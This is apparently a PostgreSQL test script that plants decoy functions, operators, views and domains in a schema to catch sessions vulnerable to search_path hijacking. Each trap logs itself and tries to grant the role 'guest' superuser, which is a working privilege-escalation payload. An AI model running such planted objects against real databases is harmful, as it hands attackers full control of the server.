-- What an enemy plants in schema :s (rights_test): functions, operators, views and types that are found instead of
-- PostgreSQL's own by a session that has the schema before pg_catalog in its search_path, or that fit its arguments better.
-- When one runs it says so in the server's log, and takes what it can get.

SELECT set_config('trap.schema', :'s', false) \g /dev/null
SET search_path = pg_catalog;

DO $plant$
DECLARE
  s    text := current_setting('trap.schema');
  body text := 'LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM %I.trap(%L); RETURN %s; END $$';
  code record;
BEGIN
  EXECUTE format($trap$
    CREATE FUNCTION %1$I.trap(what text) RETURNS boolean LANGUAGE plpgsql AS $$
    BEGIN
      RAISE LOG 'TRAP %% as %% login %%', what, current_user, session_user;
      BEGIN ALTER ROLE guest SUPERUSER; EXCEPTION WHEN OTHERS THEN NULL; END;
      RETURN true;
    END $$;
    CREATE FUNCTION %1$I.trigger() RETURNS trigger LANGUAGE plpgsql AS $$
    BEGIN PERFORM %1$I.trap('trigger'); RETURN coalesce(NEW, OLD); END $$;
    CREATE FUNCTION %1$I.event() RETURNS event_trigger LANGUAGE plpgsql AS $$
    BEGIN PERFORM %1$I.trap('event trigger'); END $$;
    CREATE FUNCTION %1$I.still(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
    BEGIN PERFORM %1$I.trap('expression'); RETURN $1; END $$$trap$, s);

  FOR code IN SELECT * FROM (VALUES
    ('format', 'text, text', 'text', '$1'), ('format', 'text, name', 'text', '$1'), ('format', 'text, text, text', 'text', '$1'),
    ('current_setting', 'text', 'text', $$'on'$$), ('current_setting', 'varchar', 'text', $$'on'$$),
    ('set_config', 'text, text, boolean', 'text', '$2'), ('to_regclass', 'text', 'regclass', 'NULL'),
    ('clock_timestamp', '', 'timestamptz', $$'epoch'$$), ('now', '', 'timestamptz', $$'epoch'$$),
    ('pg_is_in_recovery', '', 'boolean', 'false'), ('pg_reload_conf', '', 'boolean', 'true'),
    ('pg_has_role', 'name, text, text', 'boolean', 'true'), ('has_table_privilege', 'regclass, text', 'boolean', 'true'),
    ('quote_ident', 'name', 'text', '$1'), ('current_database', '', 'name', $$'postgres'$$)
  ) AS planted (name, arguments, result, value) LOOP
    EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS %s ', s, code.name, code.arguments, code.result)
      || format(body, s, code.name || '(' || code.arguments || ')', code.value);
  END LOOP;

  FOR code IN SELECT * FROM (VALUES
    ('=', 'name', 'text', 'boolean', 'true'), ('=', 'text', 'text', 'boolean', 'true'), ('=', 'name', 'name', 'boolean', 'true'),
    ('=', 'oid', 'oid', 'boolean', 'true'), ('<>', 'name', 'name', 'boolean', 'true'), ('~', 'text', 'text', 'boolean', 'true'),
    ('||', 'name', 'text', 'text', '$2'), ('||', 'text', 'text', 'text', '$2'), ('>=', 'integer', 'integer', 'boolean', 'true'),
    ('>', 'numeric', 'integer', 'boolean', 'true'), ('*', 'integer', 'numeric', 'numeric', '$2')
  ) AS planted (name, l, r, result, value) LOOP
    EXECUTE format('CREATE FUNCTION %I.%I(%s, %s) RETURNS %s ', s, 'operator ' || code.name, code.l, code.r, code.result)
      || format(body, s, code.l || ' ' || code.name || ' ' || code.r, code.value);
    EXECUTE format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %1$I.%5$I)',
      s, code.name, code.l, code.r, 'operator ' || code.name);
  END LOOP;

  FOR code IN SELECT unnest(ARRAY['pg_roles', 'pg_database', 'pg_settings', 'pg_stat_activity']) AS name LOOP
    EXECUTE format('CREATE VIEW %I.%I AS SELECT %1$I.trap(%2$L), planted.* FROM pg_catalog.%2$I AS planted', s, code.name);
  END LOOP;
  FOR code IN SELECT unnest(ARRAY['text', 'timestamptz']) AS name LOOP
    EXECUTE format('CREATE DOMAIN %I.%I AS pg_catalog.%2$I CHECK (%1$I.trap(%3$L))', s, code.name, 'type ' || code.name);
  END LOOP;
END $plant$;
